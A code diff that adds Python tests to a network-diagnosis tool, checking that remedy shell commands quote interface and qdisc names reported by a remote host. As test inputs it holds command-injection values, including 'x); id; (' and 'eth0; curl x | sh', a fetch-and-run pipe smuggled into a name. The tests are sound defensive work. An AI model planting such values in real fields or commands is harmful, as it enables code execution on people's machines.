@@ -1,24 +1,34 @@
 """Remedies: commands for the operating system of the end."""
 
+import re
+import shlex
 import tomllib
 from dataclasses import replace
 from pathlib import Path
 
 import pytest
-from linkgauge.engine.model.host_info import TcpSysctls
+from hypothesis import given
+from hypothesis import strategies as st
+from linkgauge.engine.model.host_info import HostInfo, NicInfo, TcpSysctls
 from linkgauge.engine.model.plan import End
-from linkgauge.engine.model.serialization import decode
-from linkgauge.presets.diagnosis.evidence import Evidence
+from linkgauge.engine.model.serialization import decode, encode
+from linkgauge.engine.protocol.peer_validation import replace_impossible_names
+from linkgauge.presets.diagnosis.diagnose import diagnose
+from linkgauge.presets.diagnosis.evidence import EndEvidence, Evidence
 from linkgauge.presets.diagnosis.remedies import (
+    enable_offloads,
+    enlarge_receive_ring,
     format_window,
+    negotiate,
     round_window,
     set_mtu,
     show_nic,
     show_nic_errors,
     show_queue,
+    spread_packets,
 )
 
-from .evidence_cases import end, first, run
+from .evidence_cases import NIC, end, first, run
 
 
 @pytest.mark.parametrize(
@@ -75,3 +85,40 @@ def test_the_remedy_of_a_recorded_run_undoes_the_fault_of_its_link(name: str, re
     """The command reverses what was done to the link."""
     scenario = tomllib.loads((Path(__file__).parent / "scenarios" / f"{name}.toml").read_text(encoding="utf-8"))
     assert remedy in first(decode(Evidence, scenario["evidence"])).remedy
+
+
+NIC_COMMANDS = (
+    *(enable_offloads, enlarge_receive_ring, negotiate, show_nic, show_nic_errors, show_queue, spread_packets),
+    lambda end: set_mtu(end, 1_500),
+)
+
+
+@given(
+    name=st.text(max_size=20),
+    qdisc=st.text(max_size=40) | st.sampled_from(["fq_codel", "x); id; (", "pfifo_fast"]),
+    system=st.sampled_from(["Linux 6.12", "Darwin 23.1.0", "FreeBSD 14.0", "AIX 7"]),
+)
+def test_whatever_an_end_calls_its_interface_is_one_word_of_a_command(name: str, qdisc: str, system: str) -> None:
+    """A person may paste the command into a root shell, and it has no other word of that end's."""
+    sent = HostInfo("x", system, 1, "x", "x", replace(NIC, name=name, qdisc=qdisc))
+    host = replace_impossible_names(decode(HostInfo, encode(sent)))
+    assert host.nic is not None
+    for build in NIC_COMMANDS:
+        far = replace(end(End.FAR, nic=host.nic), system=system)
+        odd, plain = build(far), build(_with_name(far, "NAME"))
+        assert shlex.split(odd) == [word.replace("NAME", host.nic.name) for word in shlex.split(plain)]
+        assert not set("();`$") & set(re.sub(r"'[^']*'| \([\w.-]+\)", "", odd))
+
+
+def _with_name(end: EndEvidence, name: str) -> EndEvidence:
+    return replace(end, nic=replace(end.nic or NicInfo(name, "device"), name=name))
+
+
+@pytest.mark.parametrize("path", sorted((Path(__file__).parent / "scenarios").glob("*.toml")), ids=lambda p: p.stem)
+def test_no_remedy_of_a_run_has_the_name_of_an_interface_unquoted(path: Path) -> None:
+    """Neither of the run log's, which was written before names were checked."""
+    name = "eth0; curl x | sh"
+    evidence = decode(Evidence, tomllib.loads(path.read_text(encoding="utf-8"))["evidence"])
+    evil = replace(evidence, near=_with_name(evidence.near, name), far=_with_name(evidence.far, name))
+    for finding in diagnose(evil):
+        assert name not in finding.remedy.replace(shlex.quote(name), "")
